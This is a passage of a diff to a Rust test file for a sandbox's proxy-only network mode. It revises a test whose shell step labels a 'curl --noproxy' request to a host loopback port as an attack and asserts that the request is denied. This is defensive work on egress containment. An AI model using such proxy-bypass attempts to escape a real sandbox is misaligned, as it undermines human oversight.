 print('control=' + l.recv(8).decode())\n");
@@ -1030,22 +1432,29 @@ fn proxy_only_agent_cannot_open_the_proxy_socket_directly() {
 fn proxy_only_direct_egress_still_blocked() {
     let w = World::new();
     let proxy = fake_proxy(&w.root);
-    let (listener, port) = host_tcp_listener();
+    let port = host_http_service();
     let m = w
         .manifest()
         .network(Network::ProxyOnly {
             socket: proxy.socket.clone(),
-            port: 3128,
+            // A port free on the host too: with the network namespace
+            // removed (mutation check) the bridge still starts, and the
+            // attack, not a port clash, decides the outcome.
+            port: free_host_port(),
         })
         .build()
         .unwrap();
     let out = w.sh_in(&m, &format!(
-        "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
+        "curl -sS --noproxy '*' --max-time 20 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
          echo control=$(curl -sS --max-time 20 http://example.invalid/)"
     ));
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "control"), "hello-from-proxy");
-    drop(listener);
+    assert_host_service_answers(port);
+}
+
+fn free_host_port() -> u16 {
+    host_tcp_listener().1
 }
 
 #[test]
